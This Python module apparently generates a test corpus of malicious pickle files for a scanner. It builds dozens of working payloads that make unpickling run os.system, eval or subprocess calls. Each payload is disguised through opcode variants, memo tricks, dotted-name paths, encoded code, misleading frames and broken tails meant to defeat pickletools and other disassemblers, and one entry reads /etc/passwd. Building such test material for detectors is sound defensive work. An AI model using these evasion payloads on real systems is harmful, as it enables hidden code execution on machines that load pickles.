"""Tricks of the stream: the call is an ordinary one, what hides it is how the pickle is spelled."""
import struct

from assemble import (
    BUILD, DUP, EMPTY_DICT, EMPTY_LIST, EMPTY_SET, EMPTY_TUPLE, EVAL, EXEC, MARK, MEMOIZE, NEWOBJ,
    NONE, POP, POP_MARK, PYTHON, Piece, REDUCE, SHELL, STACK_GLOBAL, STOP, SYSTEM, TUPLE, build,
    call, frame, get, kept, namespace, new, new_ex, partial, proto, put, ref, ref_text, steps,
    stream, text, value)
from technique import Family

family = Family("stream")
add = family.add

RUN = call(SYSTEM, SHELL)


def opcodes():
    """The same call by each of the opcodes that call, and by each way to write a name."""
    add("reduce", "REDUCE of a global, as the tutorials show it", stream(RUN))
    add("protocol-0-no-header", "protocol 0: no PROTO, nothing but text",
        b"cos\nsystem\n(S'" + SHELL.encode() + b"'\ntR.")
    add("protocol-1", "protocol 1: binary opcodes without a header",
        b"cos\nsystem\n(X" + struct.pack("<I", len(SHELL)) + SHELL.encode() + b"tR.")
    add("protocol-2", "protocol 2, which has GLOBAL and TUPLE1",
        proto(2) + b"cposix\nsystem\nX" + struct.pack("<I", len(SHELL)) + SHELL.encode()
        + b"\x85R.")
    add("protocol-5", "protocol 5", stream(RUN, 5))
    add("inst", "INST: the name is in the opcode, the arguments above the mark",
        b"(S'" + SHELL.encode() + b"'\nios\nsystem\n.")
    add("inst-no-arguments", "INST without arguments: a class whose construction imports",
        b"(ibrinery_payload\nRun\n.", beside=["brinery_payload.py"])
    add("obj", "OBJ: callee and arguments above the mark",
        b"(cos\nsystem\nS'" + SHELL.encode() + b"'\no.")
    add("obj-mixed", "OBJ with a callee from STACK_GLOBAL",
        proto(4) + MARK + SYSTEM + text(SHELL) + b"o.")
    add("newobj-tuple-of-map", "NEWOBJ only: tuple.__new__ runs through a map",
        stream(new(ref("builtins", "tuple"), new(ref("builtins", "map"), EVAL, [PYTHON]))))
    add("newobj-bytes-of-map", "NEWOBJ of bytes, which asks a map for its items",
        stream(new(ref("builtins", "bytes"), new(ref("builtins", "map"), EVAL, [PYTHON]))))
    add("newobj-ex-kwargs", "NEWOBJ_EX: keyword arguments give map's consumer its function",
        stream(call(new_ex(ref("functools", "partial"), (ref("builtins", "sorted"), [PYTHON]),
                           {"key": EVAL}))))
    add("newobj-ex-payload-in-kwargs", "the call stands among the keyword arguments",
        stream(new_ex(ref("argparse", "Namespace"), (), {"a": RUN})))
    add("reconstructor", "copyreg._reconstructor runs the base's __init__",
        stream(call(ref("copyreg", "_reconstructor"), ref("subprocess", "Popen"),
                    ref("subprocess", "Popen"), ["touch", "brinery-marker"])))
    add("newobj-by-call", "copyreg.__newobj__ called as a function",
        stream(call(ref("copyreg", "__newobj__"), ref("builtins", "tuple"),
                    call(ref("builtins", "map"), EVAL, [PYTHON]))))
    add("newobj-ex-by-call", "copyreg.__newobj_ex__ called as a function",
        stream(call(ref("copyreg", "__newobj_ex__"), ref("builtins", "frozenset"),
                    (call(ref("builtins", "map"), EVAL, [PYTHON]),), {})))
    for number, opcode in (1, b"\x82"), (2, b"\x83"), (4, b"\x84"):
        add(f"ext{number}", f"EXT{number}: the pickle registers the code that it uses then",
            stream(steps(call(ref("copyreg", "add_extension"), "os", "system", 77),
                         Piece(opcode + (77).to_bytes(number, "little") + value((SHELL,))
                               + REDUCE))))


def names():
    """How a name reaches STACK_GLOBAL or GLOBAL."""
    add("name-from-memo", "both names are fetched from the memo",
        stream(steps(Piece(kept(1, "os")), Piece(kept(2, "system")),
                     call(Piece(get(1) + get(2) + STACK_GLOBAL), SHELL))))
    add("name-from-overwritten-memo", "the memo's entry said something harmless before",
        stream(steps(kept(1, "math"), kept(1, "os"), kept(2, "floor"), kept(2, "system"),
                     call(Piece(get(1) + get(2) + STACK_GLOBAL), SHELL))))
    add("name-from-memo-by-text", "PUT and GET with decimal text",
        proto(4) + text("os") + b"p7\n0" + text("system") + b"p08\n0g7\ng8\n" + STACK_GLOBAL
        + value((SHELL,)) + REDUCE + STOP)
    add("name-from-sparse-memo", "LONG_BINPUT numbers far apart",
        proto(4) + text("os") + b"r\xff\xff\xff\x000" + text("system") + b"r\xfe\xff\xff\x000"
        + b"j\xff\xff\xff\x00j\xfe\xff\xff\x00" + STACK_GLOBAL + value((SHELL,)) + REDUCE + STOP)
    add("name-miscounted-memo", "MEMOIZE after PUT counts entries, not opcodes",
        proto(4) + text("os") + put(0) + put(0) + POP + text("system") + MEMOIZE + POP
        + get(0) + get(1) + STACK_GLOBAL + value((SHELL,)) + REDUCE + STOP)
    add("name-type-confusion", "a number is memoized, then overwritten by the name",
        proto(4) + b"K\x01" + put(5) + POP + text("os") + put(5) + POP
        + get(5) + text("system") + STACK_GLOBAL + value((SHELL,)) + REDUCE + STOP)
    add("name-below-pop", "something harmless is pushed above the names and popped",
        proto(4) + text("os") + text("system") + text("path") + POP + STACK_GLOBAL
        + value((SHELL,)) + REDUCE + STOP)
    add("name-below-pop-mark", "something harmless above a mark hides the names",
        proto(4) + text("os") + MARK + text("math") + text("floor") + POP_MARK + text("system")
        + MARK + text("x") + POP_MARK + STACK_GLOBAL + value((SHELL,)) + REDUCE + STOP)
    add("name-dup", "DUP: one text is module and name",
        proto(4) + text("code") + DUP + POP + POP + text("timeit") + DUP + STACK_GLOBAL
        + value((PYTHON, "pass", ref("time", "time"), 1)) + REDUCE + STOP)
    add("name-in-bytes-string", "names by SHORT_BINSTRING, Python 2's str",
        proto(4) + b"U\x02os" + b"U\x06system" + STACK_GLOBAL + value((SHELL,)) + REDUCE + STOP)
    add("name-string-escapes", "names by STRING with hexadecimal escapes",
        proto(4) + b"S'\\x6f\\x73'\n" + b"S'sys\\164em'\n" + STACK_GLOBAL + value((SHELL,))
        + REDUCE + STOP)
    add("name-unicode-escapes", "names by UNICODE with \\u escapes",
        proto(4) + b"V\\u006f\\u0073\n" + b"V\\u0073ystem\n" + STACK_GLOBAL + value((SHELL,))
        + REDUCE + STOP)
    add("name-binunicode8", "names with eight bytes of length",
        proto(4) + b"\x8d" + struct.pack("<Q", 2) + b"os" + b"\x8d" + struct.pack("<Q", 6)
        + b"system" + STACK_GLOBAL + value((SHELL,)) + REDUCE + STOP)
    add("name-computed", "the name is the result of a call: ''.join",
        stream(call(Piece(call(ref("builtins", "str.join"), "", ["o", "s"])
                          + call(ref("builtins", "str.join"), "", ["sys", "tem"])
                          + STACK_GLOBAL), SHELL)))
    add("name-reversed", "the name is the result of a call: str.replace",
        stream(call(Piece(text("os") + call(ref("builtins", "str.replace"), "sysXtem", "X", "")
                          + STACK_GLOBAL), SHELL)))
    add("name-split-frames", "a frame ends between module and name",
        proto(4) + frame(4) + text("os") + frame(len(text("system")) + 1) + text("system")
        + STACK_GLOBAL + value((SHELL,)) + REDUCE + STOP)
    add("name-python2-builtin", "__builtin__, which loading calls builtins",
        proto(2) + b"c__builtin__\neval\nX" + struct.pack("<I", len(PYTHON)) + PYTHON.encode()
        + b"\x85R.")
    add("name-python2-commands", "commands.getoutput, which loading takes from subprocess",
        proto(2) + b"ccommands\ngetoutput\nX" + struct.pack("<I", len(SHELL)) + SHELL.encode()
        + b"\x85R.")
    add("name-python2-imap", "itertools.imap, which loading calls builtins.map",
        proto(2) + b"c__builtin__\ntuple\n" + b"citertools\nimap\n" + b"c__builtin__\neval\n"
        + value([PYTHON]) + b"\x86R\x85R.")
    add("name-python2-reduce", "__builtin__.reduce, which loading takes from functools",
        proto(2) + ref_text("__builtin__", "reduce") + ref_text("__builtin__", "eval")
        + value([PYTHON, {}]) + b"\x86R.")
    add("name-python2-thread", "thread, which loading calls _thread",
        proto(2) + ref_text("thread", "start_new_thread") + ref_text("os", "system")
        + value((SHELL,)) + b"\x86R" + POP + ref_text("time", "sleep") + value((0.1,)) + b"R.")
    add("name-python2-urlretrieve", "urllib.urlretrieve, which loading takes from urllib.request",
        proto(2) + ref_text("urllib", "urlretrieve")
        + value(("file:///etc/passwd", "brinery-marker")) + b"R.")
    add("name-not-ascii", "a GLOBAL whose name is not ASCII: disassemblers stop there",
        proto(4) + ref("base64", "__dict__") + text("gr\xfcn") + EVAL + b"s0"
        + b"cbase64\ngr\xc3\xbcn\n" + value((PYTHON,)) + REDUCE + STOP)
    add("name-through-module", "a dotted name through a module that imports another",
        stream(call(ref("random", "_os.system"), SHELL)))
    add("name-through-long-path", "a dotted name through many harmless modules",
        stream(call(ref("logging", "os.path.os.path.os.path.os.system"), SHELL)))
    add("name-through-self", "a dotted name through a builtin function's __self__",
        stream(call(ref("builtins", "len.__self__.eval"), PYTHON)))
    add("name-through-globals", "a dotted name through a method's __globals__",
        stream(call(call(ref("argparse", "ArgumentParser.__init__.__builtins__.get"), "eval"),
                    PYTHON)))
    add("name-through-class", "types.FunctionType, reached as a function's __class__",
        stream(call(call(ref("textwrap", "dedent.__class__"),
                         call(ref("builtins", "compile"), PYTHON, "x", "exec"),
                         ref("textwrap", "__dict__")))))
    add("name-module-alias", "sys.modules gets another name for os",
        stream(steps(Piece(ref("sys", "modules") + text("brinery_alias") + ref("random", "_os")
                           + b"s"),
                     call(ref("brinery_alias", "system"), SHELL))))
    add("name-builtins-alias", "a function gets a harmless name in a harmless module",
        stream(steps(Piece(ref("math", "__dict__") + text("floor") + EVAL + b"s"),
                     call(ref("math", "floor"), PYTHON))))
    add("name-main", "a name of __main__, made before",
        stream(steps(Piece(ref("__main__", "__dict__") + text("Model") + EVAL + b"s"),
                     call(ref("__main__", "Model"), PYTHON))))


def places():
    """Where in the object graph the call stands."""
    add("place-dict-key", "the call makes a dict's key", stream({RUN: 1}))
    add("place-dict-value", "the call is deep in harmless data",
        stream({"weights": [0.5] * 50, "layers": [{"name": "a", "hook": (1, [RUN])}]}))
    add("place-set", "the call makes an item of a set",
        proto(4) + EMPTY_SET + MARK + RUN + b"\x90" + STOP)
    add("place-frozenset", "the call makes an item of a frozenset",
        proto(4) + MARK + RUN + b"\x91" + STOP)
    add("place-state", "the call makes an object's state",
        stream(build(new(ref("argparse", "Namespace")), {"a": RUN})))
    add("place-argument", "the call makes an argument of a harmless one",
        stream(call(ref("builtins", "complex"), RUN)))
    add("place-callee", "the call makes the callee of the next one",
        stream(call(call(ref("operator", "attrgetter"), "x"), RUN)))
    add("place-persistent-id", "the call makes a persistent id",
        proto(4) + RUN + b"Q" + STOP)
    add("place-popped", "the result is popped; what is left is a dict", stream(steps(RUN, {})))
    add("place-popped-by-mark", "the result goes with POP_MARK",
        proto(4) + MARK + RUN + POP_MARK + EMPTY_DICT + STOP)
    add("place-below-result", "the result stays on the stack, below what is returned",
        proto(4) + RUN + EMPTY_DICT + STOP)
    add("place-before-proto", "the call comes before PROTO", RUN + POP + proto(4) + NONE + STOP)
    add("place-memoized-only", "the result is memoized, popped and never fetched",
        proto(4) + RUN + put(9) + POP + value([1, 2, 3]) + STOP)
    add("place-far-behind", "64 kB of data stand before the call",
        stream([b"\0" * 65536, RUN]))
    add("place-in-padding", "thousands of opcodes that do nothing stand before the call",
        proto(4) + b"N0" * 20000 + RUN + STOP)
    add("place-second-pickle", "a harmless pickle, and one that is not in the same file",
        stream({"harmless": 1}) + stream(RUN), loader="pickle-all")
    add("place-tenth-pickle", "nine harmless pickles before it",
        b"".join(stream([number]) for number in range(9)) + stream(RUN), loader="pickle-all")
    add("place-after-padding", "zeros stand between a harmless pickle and one that is not",
        stream([]) + b"\0" * 100 + stream(RUN), loader="pickle-skip")
    add("place-proto-0-after-stop", "the second pickle has no header",
        stream([]) + b"cos\nsystem\n(S'" + SHELL.encode() + b"'\ntR.", loader="pickle-all")


def states():
    """BUILD, which sets attributes, and calls."""
    made = call(ref("builtins", "type"), "T", (), {"__setstate__": EVAL})
    add("build-setstate", "a class made on the spot has eval for __setstate__",
        stream(build(call(made), PYTHON)))
    add("build-setstate-in-instance", "the first state brings __setstate__, the second one runs",
        stream(build(namespace(__setstate__=EVAL), PYTHON)))
    add("build-setstate-in-slots", "__setstate__ comes as state of slots",
        stream(build(build(new(ref("argparse", "Namespace")), (None, {"__setstate__": EVAL})),
                     PYTHON)))
    add("build-on-class", "state for a class: its instances have __setstate__ now",
        stream(steps(build(ref("argparse", "Namespace"), (None, {"__setstate__": EVAL})),
                     build(new(ref("argparse", "Namespace")), PYTHON))))
    add("build-on-module", "state for a module: its function is another one now",
        stream(steps(build(ref("base64", "binascii"), {"hexlify": EVAL}),
                     call(ref("binascii", "hexlify"), PYTHON))))
    add("build-on-function", "state for a function: its code is another one now",
        stream(steps(build(ref("textwrap", "dedent"),
                           (None, {"__code__": call(ref("builtins", "compile"), PYTHON, "x",
                                                    "exec")})),
                     call(ref("textwrap", "dedent")))))
    add("build-on-function-defaults", "state for a function: its defaults are others now",
        stream(steps(build(ref("subprocess", "getoutput"),
                           (None, {"__defaults__": (SHELL,)})),
                     call(ref("subprocess", "getoutput")))))
    add("build-class-of-instance", "the state's key is __class__",
        stream(build(build(new(ref("argparse", "Namespace")),
                           (None, {"__class__": call(ref("builtins", "type"), "T",
                                                     (ref("argparse", "Namespace"),),
                                                     {"__setstate__": EVAL})})), PYTHON)))
    add("build-partial", "functools.partial's own __setstate__ takes another function",
        stream(call(build(call(ref("functools", "partial"), ref("builtins", "print")),
                          (EVAL, (PYTHON,), {}, None)))))
    add("build-breakpoint-hook", "sys.breakpointhook is replaced, then breakpoint is called",
        stream(steps(build(ref("os", "sys"), {"breakpointhook": EVAL}),
                     call(ref("builtins", "breakpoint"), PYTHON))))
    add("append-to-object", "APPEND to an object whose append is eval",
        proto(4) + namespace(append=EVAL) + text(PYTHON) + b"a" + STOP)
    add("appends-to-object", "APPENDS to an object whose extend runs through a list",
        proto(4) + namespace(extend=partial(ref("builtins", "any"))) + MARK + EMPTY_LIST + b"e"
        + POP + namespace(extend=partial(ref("functools", "reduce"), EVAL)) + MARK
        + text(PYTHON) + EMPTY_DICT + b"e" + STOP)
    add("additems-to-object", "ADDITEMS to an object whose add is eval",
        proto(4) + namespace(add=EVAL) + MARK + text(PYTHON) + b"\x90" + STOP)
    add("setitem-to-object", "SETITEM to an object whose class has its own __setitem__",
        proto(4) + call(call(ref("builtins", "type"), "T", (), {"__setitem__": EVAL}))
        + text(PYTHON) + EMPTY_DICT + b"s" + STOP)
    add("setitem-to-globals", "SETITEM to the builtins: a global name means eval",
        proto(4) + ref("builtins", "__dict__") + text("brinery_name") + EVAL + b"s0"
        + call(ref("builtins", "brinery_name"), PYTHON) + STOP)
    add("append-to-sys-path", "APPEND to sys.path, then a module is imported from there",
        stream(steps(Piece(ref("sys", "path") + text("brinery_modules.zip") + b"a"),
                     ref("brinery_zipped", "Run"))), beside=["brinery_modules.zip"])
    add("hash-of-key", "a dict's key whose class has its own __hash__",
        stream({call(call(ref("builtins", "type"), "T", (),
                          {"__hash__": partial(EVAL, f"hash({PYTHON})")})): 1}))
    add("equal-keys", "two keys whose class has its own __eq__",
        proto(4) + call(ref("builtins", "type"), "T", (ref("builtins", "dict"),),
                        {"__hash__": partial(ref("builtins", "int"), 1),
                         "__eq__": partial(EVAL, PYTHON, {})})
        + put(0) + POP + EMPTY_DICT + MARK + call(get(0)) + NONE + call(get(0)) + NONE + b"u"
        + STOP)
    add("import-alone", "looking a name up imports its module, and that runs it",
        stream(ref("brinery_payload", "Run")), beside=["brinery_payload.py"])
    add("import-of-package", "looking a name up in a package's module imports the package",
        stream(ref("brinery_package.inner", "Run")),
        beside=["brinery_package/__init__.py", "brinery_package/inner.py"])


def encodings():
    """The argument does not look like code."""
    add("argument-bytes", "the code is bytes", stream(call(EXEC, PYTHON.encode())))
    add("argument-bytearray", "the code is a bytearray",
        proto(5) + EXEC + b"\x96" + struct.pack("<Q", len(PYTHON)) + PYTHON.encode()
        + b"\x85" + REDUCE + STOP)
    import base64
    import codecs
    import zlib
    add("argument-base64", "the code is base64",
        stream(call(EXEC, call(ref("base64", "b64decode"),
                               base64.b64encode(PYTHON.encode()).decode()))))
    add("argument-hex", "the code is hexadecimal",
        stream(call(EXEC, call(ref("binascii", "unhexlify"), PYTHON.encode().hex()))))
    add("argument-rot13", "the code is rotated by codecs.decode",
        stream(call(EXEC, call(ref("codecs", "decode"), codecs.encode(PYTHON, "rot13"),
                               "rot13"))))
    add("argument-zlib", "the code is compressed",
        stream(call(EXEC, call(ref("zlib", "decompress"), zlib.compress(PYTHON.encode(), 9)))))
    add("argument-reversed", "the code is backwards",
        stream(call(EXEC, call(ref("builtins", "str.join"), "",
                               call(ref("builtins", "reversed"), PYTHON[::-1])))))
    add("argument-utf7", "the code is UTF-7, which its first line declares",
        stream(call(EXEC, b"# -*- coding: utf-7 -*-\n" + PYTHON.encode("utf-7"))))
    add("argument-utf16", "the code is decoded from UTF-16",
        stream(call(EXEC, call(ref("builtins", "bytes.decode"), PYTHON.encode("utf-16"),
                               "utf-16"))))
    add("argument-from-numbers", "the code is a list of numbers",
        stream(call(EXEC, call(ref("builtins", "bytes"), list(PYTHON.encode())))))
    add("argument-latin1", "the code is spelled as protocol 2 spells bytes",
        proto(2) + ref_text("__builtin__", "eval") + ref_text("_codecs", "encode")
        + b"X" + struct.pack("<I", len(PYTHON)) + PYTHON.encode() + b"X\x06\0\0\0latin1\x86R\x85R"
        + STOP)


def frames_and_headers():
    """Frames and headers that say what is not so."""
    add("proto-repeated", "PROTO again and again", proto(4) + proto(2) + proto(0) + RUN + proto(5)
        + STOP)
    add("proto-0", "PROTO says 0, the opcodes are protocol 4's", proto(0) + RUN + STOP)
    add("proto-1-then-dotted", "PROTO again makes dotted names work again",
        proto(1) + proto(4) + call(ref("random", "_os.system"), SHELL) + STOP)
    add("frame-too-short", "a frame ends in the middle of an opcode",
        proto(4) + frame(3) + RUN + STOP, lax=True)
    add("frame-empty", "frames of no length everywhere",
        proto(4) + frame(0) + SYSTEM + frame(0) + value((SHELL,)) + frame(0) + REDUCE + STOP)
    add("frame-ends-after-call", "a frame ends after the call, the rest has none",
        proto(4) + frame(len(RUN)) + RUN + STOP)
    add("frame-too-long-after", "a frame beyond the end of the data, after the call",
        proto(4) + RUN + frame(2**40) + STOP)
    add("frame-nested", "a frame in a frame", proto(4) + frame(9 + len(RUN) + 1)
        + frame(len(RUN)) + RUN + STOP, lax=True)
    add("frame-in-protocol-0", "FRAME without a PROTO", frame(len(RUN) + 1) + RUN + STOP)


def broken_tails():
    """Loading fails, too late: the call has been made."""
    tails = [
        ("no-stop", "the data end without STOP", b""),
        ("unknown-opcode", "an opcode that there is not", b"\xff"),
        ("truncated-argument", "the last opcode's argument is cut off", b"X\xff"),
        ("truncated-text", "a text longer than the data", b"\x8c\xffabc"),
        ("bad-utf8", "a text that is not UTF-8", b"\x8c\x02\xff\xfe" + STOP),
        ("bad-int", "an INT that is no number", b"Iabc\n" + STOP),
        ("bad-string", "a STRING without quotes", b"Sabc\n" + STOP),
        ("empty-stack", "STOP on an empty stack", POP + STOP),
        ("no-mark", "TUPLE without a mark", TUPLE + STOP),
        ("memo-missing", "GET of what was never put", b"h\xfe" + STOP),
        ("bad-put", "PUT of a negative number", b"p-5\n" + STOP),
        ("bad-proto", "PROTO of a protocol that there is not", proto(99) + STOP),
        ("persistent-id", "a persistent id that nobody resolves", b"Pid\n" + STOP),
        ("no-buffer", "NEXT_BUFFER without buffers", b"\x97" + STOP),
        ("no-extension", "EXT1 of a code that is not registered", b"\x82\xfd" + STOP),
        ("negative-size", "BINSTRING of a negative size", b"T\xff\xff\xff\xff" + STOP),
        ("huge-size", "BINBYTES8 of 2**62 bytes", b"\x8e" + struct.pack("<Q", 2**62) + STOP),
        ("missing-module", "a module that there is not", b"cno_such_module_brinery\nx\n" + STOP),
        ("raises", "a call that raises", call(ref("builtins", "int"), "x") + STOP),
        ("hexadecimal-int", "an INT in base 16, which pickletools refuses",
         POP + b"I0x10\n" + STOP),
    ]
    for name, what, tail in tails:
        add(f"broken-{name}", f"the call, and then {what}", proto(4) + RUN + tail)
    add("hexadecimal-int-before", "an INT in base 16 stops pickletools, loading goes on",
        b"I0x10\n" + POP + b"cos\nsystem\n(S'" + SHELL.encode() + b"'\ntR.")
    add("long-base-16-before", "a LONG in base 16 stops pickletools, loading goes on",
        b"L0x10L\n" + POP + b"cos\nsystem\n(S'" + SHELL.encode() + b"'\ntR.")
    add("memo-index-zero-byte", "a zero byte ends the number of a PUT, for the loader in C",
        b"I1\np1\0rest\n0" + text("os") + text("system") + STACK_GLOBAL + value((SHELL,)) + REDUCE
        + STOP)
    add("memo-twice", "an entry of the memo stored twice, which pickletools.dis refuses",
        proto(4) + EMPTY_LIST + put(0) + put(0) + POP + RUN + STOP)
    add("trailing-bytes", "rubbish after STOP", stream(RUN) + b"rubbish \xff\0\x80")
    add("leading-stop-mark", "a mark is popped by POP",
        proto(4) + MARK + POP + RUN + STOP)
    add("tuple-of-nothing", "marks and empty tuples between callee and arguments",
        proto(4) + SYSTEM + MARK + EMPTY_TUPLE + POP_MARK + NONE + POP + value((SHELL,)) + REDUCE
        + STOP)
    add("newobj-and-build", "NEWOBJ and BUILD only: a state that appends to a path",
        proto(4) + ref("brinery_payload", "Run") + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT + BUILD
        + STOP, beside=["brinery_payload.py"])


opcodes()
names()
places()
states()
encodings()
frames_and_headers()
broken_tails()
